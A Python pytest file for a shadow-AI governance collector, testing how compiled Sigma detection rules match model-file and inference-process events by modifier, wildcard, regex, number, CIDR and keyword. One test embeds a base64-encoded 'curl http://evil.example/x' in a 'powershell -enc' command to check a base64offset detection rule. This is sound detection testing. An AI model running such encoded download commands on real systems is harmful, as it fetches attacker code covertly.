"""Sigma matching semantics of the compiled rules, one modifier and value type at a time."""

from __future__ import annotations

import base64
import textwrap

import pytest

from collector.governance import Match, Rule, parse_rules

MODEL = "shadowai.model_file"
PROCESS = "shadowai.inference_process"


def rule(detection: str, category: str | None = "model_file", rule_id: str = "1") -> Rule:
    """A one-rule set built from the body of its `detection:` section."""
    logsource = "logsource:\n  product: shadowai\n"
    if category is not None:
        logsource += f"  category: {category}\n"
    text = (
        "title: test rule\n"
        f"id: 00000000-0000-4000-8000-{int(rule_id):012d}\n"
        "level: medium\n"
        + logsource
        + "detection:\n"
        + textwrap.indent(textwrap.dedent(detection).strip("\n"), "  ")
        + "\n"
    )
    return parse_rules([("test.yml", text)]).rules[0]


def model(fields: dict[str, object] | None = None) -> dict[str, object]:
    """A model-file event with the given fields."""
    return {"event.dataset": MODEL, "event.action": "discovered", **(fields or {})}


def test_plain_strings_match_whole_values_case_insensitively() -> None:
    compiled = rule("sel:\n  ai.model.format: gguf\ncondition: sel")
    assert compiled.matches({"event.dataset": MODEL, "ai.model.format": "gguf"})
    assert compiled.matches({"event.dataset": MODEL, "ai.model.format": "GGUF"})
    assert not compiled.matches({"event.dataset": MODEL, "ai.model.format": "gguf2"})
    assert not compiled.matches({"event.dataset": MODEL, "ai.model.format": "xgguf"})


def test_cased_modifier_makes_matching_case_sensitive() -> None:
    compiled = rule("sel:\n  ai.model.name|cased: Llama\ncondition: sel")
    assert compiled.matches({"event.dataset": MODEL, "ai.model.name": "Llama"})
    assert not compiled.matches({"event.dataset": MODEL, "ai.model.name": "llama"})


def test_cased_wildcards_keep_case() -> None:
    compiled = rule("sel:\n  file.path|cased|endswith: .GGUF\ncondition: sel")
    assert compiled.matches({"event.dataset": MODEL, "file.path": "/m/A.GGUF"})
    assert not compiled.matches({"event.dataset": MODEL, "file.path": "/m/a.gguf"})


@pytest.mark.parametrize(
    ("pattern", "value", "expected"),
    [
        ("llama*.gguf", "llama-3-8b.gguf", True),
        ("llama*.gguf", "LLAMA.GGUF", True),
        ("llama*.gguf", "llama-3-8b.gguf.part", False),
        ("lap-?", "lap-1", True),
        ("lap-?", "lap-12", False),
        ("*a*b*", "xxaxxbxx", True),
        ("*a*b*", "xxbxxaxx", False),
        ("ab*ba", "aba", False),
        ("ab*ba", "abba", True),
        ("*", "", True),
        ("a?c*", "abcdef", True),
        ("*?x?*", "x", False),
        ("*?x?*", "axb", True),
        ("r\\*x", "r*x", True),
        ("r\\*x", "rabx", False),
        ("what\\?", "what?", True),
        ("what\\?", "whats", False),
        ("", "", True),
        ("", "a", False),
    ],
)
def test_wildcards_and_escapes(pattern: str, value: str, expected: bool) -> None:
    compiled = rule(f"sel:\n  file.name: '{pattern}'\ncondition: sel")
    assert compiled.matches({"event.dataset": MODEL, "file.name": value}) is expected


def test_wildcards_match_across_lines() -> None:
    compiled = rule("sel:\n  x: 'a*b?c'\ncondition: sel", category=None)
    assert compiled.matches({"x": "a\n\nb\nc"})


def test_contains_startswith_endswith() -> None:
    contains = rule("sel:\n  file.path|contains: /Models/\ncondition: sel")
    starts = rule("sel:\n  file.path|startswith: /home/\ncondition: sel")
    ends = rule("sel:\n  file.path|endswith: .gguf\ncondition: sel")
    event = model({"file.path": "/home/dev/models/x.gguf"})
    assert contains.matches(event) and starts.matches(event) and ends.matches(event)
    other = model({"file.path": "/opt/x.safetensors"})
    assert not contains.matches(other)
    assert not starts.matches(other)
    assert not ends.matches(other)


def test_a_list_in_the_event_matches_if_any_element_matches() -> None:
    compiled = rule("sel:\n  ai.model.unsafe_reasons|startswith: pickle\ncondition: sel")
    assert compiled.matches(
        model({"ai.model.unsafe_reasons": ["lambda_layer", "pickle_global:os"]})
    )
    assert not compiled.matches(model({"ai.model.unsafe_reasons": ["lambda_layer"]}))
    assert not compiled.matches(model({"ai.model.unsafe_reasons": []}))


def test_a_list_of_rule_values_is_or_and_all_makes_it_and() -> None:
    any_of = rule("sel:\n  file.path|contains: [llama, mistral]\ncondition: sel")
    all_of = rule("sel:\n  file.path|contains|all: [llama, q4]\ncondition: sel")
    assert any_of.matches(model({"file.path": "/m/mistral.gguf"}))
    assert not all_of.matches(model({"file.path": "/m/llama-f16.gguf"}))
    assert all_of.matches(model({"file.path": "/m/llama-Q4.gguf"}))


def test_a_missing_field_matches_nothing_but_its_negation_holds() -> None:
    compiled = rule("sel:\n  ai.model.license: mit\ncondition: sel")
    negated = rule("sel:\n  ai.model.license: mit\ncondition: not sel")
    assert not compiled.matches(model())
    assert negated.matches(model())
    assert not compiled.matches(model({"ai.model.license": None}))


def test_null_matches_a_missing_or_empty_field_only() -> None:
    compiled = rule("sel:\n  ai.model.license: null\ncondition: sel")
    assert compiled.matches(model())
    assert compiled.matches(model({"ai.model.license": None}))
    assert compiled.matches(model({"ai.model.license": []}))
    assert not compiled.matches(model({"ai.model.license": "mit"}))
    assert not compiled.matches(model({"ai.model.license": ""}))


def test_exists_modifier() -> None:
    exists = rule("sel:\n  ai.model.license|exists: true\ncondition: sel")
    absent = rule("sel:\n  ai.model.license|exists: false\ncondition: sel")
    assert exists.matches(model({"ai.model.license": "apache-2.0"}))
    assert exists.matches(model({"ai.model.license": ""}))
    assert not exists.matches(model())
    assert absent.matches(model())
    assert not absent.matches(model({"ai.model.license": "mit"}))


def test_numbers_compare_numerically_including_numeric_strings() -> None:
    compiled = rule("sel:\n  ai.model.context_length: 4096\ncondition: sel")
    assert compiled.matches(model({"ai.model.context_length": 4096}))
    assert compiled.matches(model({"ai.model.context_length": 4096.0}))
    assert compiled.matches(model({"ai.model.context_length": "4096"}))
    assert compiled.matches(model({"ai.model.context_length": " 4096".strip()}))
    assert not compiled.matches(model({"ai.model.context_length": "4096 tokens"}))
    assert not compiled.matches(model({"ai.model.context_length": 4097}))
    assert not compiled.matches(model({"ai.model.context_length": True}))


def test_a_quoted_number_in_the_rule_matches_the_number_in_the_event() -> None:
    compiled = rule("sel:\n  file.size: '123'\ncondition: sel")
    assert compiled.matches(model({"file.size": 123}))
    assert compiled.matches(model({"file.size": "123"}))


@pytest.mark.parametrize(
    ("modifier", "below", "at", "above"),
    [
        ("gt", False, False, True),
        ("gte", False, True, True),
        ("lt", True, False, False),
        ("lte", True, True, False),
    ],
)
def test_comparison_modifiers(modifier: str, below: bool, at: bool, above: bool) -> None:
    compiled = rule(f"sel:\n  ai.model.parameters|{modifier}: 30000000000\ncondition: sel")
    assert compiled.matches(model({"ai.model.parameters": 29_999_999_999})) is below
    assert compiled.matches(model({"ai.model.parameters": 30_000_000_000})) is at
    assert compiled.matches(model({"ai.model.parameters": 70_000_000_000})) is above
    assert compiled.matches(model({"ai.model.parameters": "7e10"})) is above
    assert not compiled.matches(model({"ai.model.parameters": "many"}))
    assert not compiled.matches(model())


def test_huge_numbers_in_events_do_not_break_string_matching() -> None:
    compiled = rule("sel:\n  file.size|startswith: '1'\ncondition: sel")
    assert not compiled.matches(model({"file.size": 10**5000}))
    assert compiled.matches(model({"file.size": 10**50}))


def test_booleans_match_booleans_and_their_text() -> None:
    compiled = rule("sel:\n  ai.model.unsafe: true\ncondition: sel")
    assert compiled.matches(model({"ai.model.unsafe": True}))
    assert compiled.matches(model({"ai.model.unsafe": "True"}))
    assert not compiled.matches(model({"ai.model.unsafe": False}))
    assert not compiled.matches(model({"ai.model.unsafe": 1}))
    assert not compiled.matches(model({"ai.model.unsafe": "yes"}))


def test_regular_expressions_search_case_sensitively_by_default() -> None:
    compiled = rule("sel:\n  ai.model.quantization|re: 'Q[0-9]_K'\ncondition: sel")
    assert compiled.matches(model({"ai.model.quantization": "IQ4_K_M"}))
    assert not compiled.matches(model({"ai.model.quantization": "q4_k_m"}))
    anchored = rule("sel:\n  ai.model.quantization|re: '^Q[0-9]_K'\ncondition: sel")
    assert not anchored.matches(model({"ai.model.quantization": "IQ4_K_M"}))


def test_regular_expression_flags() -> None:
    ignore_case = rule("sel:\n  x|re|i: '^q4'\ncondition: sel", category=None)
    multiline = rule("sel:\n  x|re|m: '^second$'\ncondition: sel", category=None)
    dotall = rule("sel:\n  x|re|s: 'first.second'\ncondition: sel", category=None)
    plain = rule("sel:\n  x|re: 'first.second'\ncondition: sel", category=None)
    assert ignore_case.matches({"x": "Q4_0"})
    assert multiline.matches({"x": "first\nsecond"})
    assert dotall.matches({"x": "first\nsecond"})
    assert not plain.matches({"x": "first\nsecond"})


def test_regular_expressions_survive_text_that_is_not_valid_unicode() -> None:
    compiled = rule("sel:\n  x|re: 'a.b'\ncondition: sel", category=None)
    assert compiled.matches({"x": "a\ud800b"})
    assert not compiled.matches({"x": "\udfff"})


def test_cidr_matches_ipv4_and_ipv6_addresses() -> None:
    compiled = rule(
        "sel:\n  ai.listen.address|cidr: [10.0.0.0/8, 'fd00::/8']\ncondition: sel",
        category="inference_process",
    )
    event = {"event.dataset": PROCESS}
    assert compiled.matches({**event, "ai.listen.address": "10.1.2.3"})
    assert compiled.matches({**event, "ai.listen.address": "fd12::1"})
    assert not compiled.matches({**event, "ai.listen.address": "192.168.1.1"})
    assert not compiled.matches({**event, "ai.listen.address": "::1"})
    assert not compiled.matches({**event, "ai.listen.address": "not an address"})
    assert not compiled.matches({**event, "ai.listen.address": 167772161})


def test_neq_negates_the_value() -> None:
    compiled = rule("sel:\n  host.os.type|neq: linux\ncondition: sel")
    assert compiled.matches(model({"host.os.type": "windows"}))
    assert not compiled.matches(model({"host.os.type": "Linux"}))


def test_keywords_search_every_string_value() -> None:
    compiled = rule("keywords:\n  - ollama\n  - 'lm*studio'\ncondition: keywords", category=None)
    assert compiled.matches({"process.command_line": "/usr/bin/Ollama serve"})
    assert compiled.matches({"ai.runtime.libraries": ["libc.so", "LM Studio.app"]})
    assert not compiled.matches({"process.name": "python3", "process.pid": 42})
    numbers = rule("keywords:\n  - '42'\ncondition: keywords", category=None)
    assert not numbers.matches({"process.pid": 42})
    assert numbers.matches({"process.title": "worker-42"})


def test_keyword_regular_expressions() -> None:
    compiled = rule("keywords:\n  '|re': 'llama[-_]server'\ncondition: keywords", category=None)
    assert compiled.matches({"process.name": "llama-server"})
    assert not compiled.matches({"process.name": "llamaserver"})


def test_expanding_modifiers_match_any_expansion() -> None:
    compiled = rule(
        "sel:\n  process.command_line|base64offset|contains: 'http://evil'\ncondition: sel",
        category=None,
    )
    encoded = base64.b64encode(b"curl http://evil.example/x").decode()
    assert compiled.matches({"process.command_line": f"powershell -enc {encoded}"})
    assert not compiled.matches({"process.command_line": "powershell -enc aGVsbG8="})
    windash = rule("sel:\n  process.command_line|windash|contains: ' -host '\ncondition: sel", None)
    assert windash.matches({"process.command_line": "server /host 0.0.0.0"})


def test_condition_selectors_and_several_conditions() -> None:
    one_of = rule(
        "sel_a:\n  x: a\nsel_b:\n  y: b\ncondition: 1 of sel_*",
        category=None,
    )
    all_of = rule("sel_a:\n  x: a\nsel_b:\n  y: b\ncondition: all of them", category=None)
    several = rule("sel_a:\n  x: a\nsel_b:\n  y: b\ncondition: [sel_a, sel_b]", category=None)
    assert one_of.matches({"y": "b"})
    assert not all_of.matches({"y": "b"})
    assert all_of.matches({"x": "a", "y": "b"})
    assert several.matches({"x": "a"}) and several.matches({"y": "b"})
    assert not several.matches({"x": "b"})


def test_list_of_maps_is_or_of_and_groups() -> None:
    compiled = rule(
        "sel:\n  - {x: a, y: b}\n  - {z: c}\ncondition: sel",
        category=None,
    )
    assert compiled.matches({"x": "a", "y": "b"})
    assert compiled.matches({"z": "c"})
    assert not compiled.matches({"x": "a"})


def test_the_logsource_category_selects_the_dataset() -> None:
    files_only = rule("sel:\n  ai.listen.exposed: true\ncondition: sel", category="model_file")
    every = rule("sel:\n  ai.listen.exposed: true\ncondition: sel", category=None)
    process = {"event.dataset": PROCESS, "ai.listen.exposed": True}
    assert not files_only.matches(process)
    assert every.matches(process)
    assert every.dataset is None
    assert files_only.dataset == MODEL


def test_ruleset_evaluate_reports_the_rules_that_fired_in_order() -> None:
    text = "\n---\n".join(
        f"title: rule {n}\nid: 00000000-0000-4000-8000-00000000000{n}\nlevel: {level}\n"
        f"tags: [shadowai.t{n}]\nlogsource: {{product: shadowai{category}}}\n"
        "detection:\n  sel: {ai.model.format: gguf}\n  condition: sel"
        for n, level, category in [
            (1, "low", ", category: model_file"),
            (2, "high", ", category: inference_process"),
            (3, "critical", ""),
        ]
    )
    ruleset = parse_rules([("pack.yml", text)])
    assert ruleset.evaluate({"event.dataset": MODEL, "ai.model.format": "gguf"}) == [
        Match("00000000-0000-4000-8000-000000000001", "rule 1", "low", ("shadowai.t1",)),
        Match("00000000-0000-4000-8000-000000000003", "rule 3", "critical", ("shadowai.t3",)),
    ]
    assert [m.rule_id[-1] for m in ruleset.evaluate({"ai.model.format": "gguf"})] == ["3"]
    assert ruleset.evaluate({"event.dataset": MODEL, "ai.model.format": "onnx"}) == []


def test_rule_metadata_comes_from_the_document() -> None:
    text = textwrap.dedent(
        """\
        # leading comment
        title: Exposed server
        id: B2AA8634-F90C-480D-B51E-988C15C0EA2D
        description: |
          Anyone can reach it.
        tags: [attack.t1190, shadowai.exposed]
        logsource: {product: shadowai, category: inference_process}
        detection:
          sel: {ai.listen.exposed: true}
          condition: sel
        level: high
        """
    )
    (compiled,) = parse_rules([("rules/x.yml", text)]).rules
    assert compiled.id == "b2aa8634-f90c-480d-b51e-988c15c0ea2d"
    assert compiled.title == "Exposed server"
    assert compiled.level == "high"
    assert compiled.description == "Anyone can reach it."
    assert compiled.tags == ("attack.t1190", "shadowai.exposed")
    assert compiled.dataset == PROCESS
    assert compiled.source == "rules/x.yml:2"
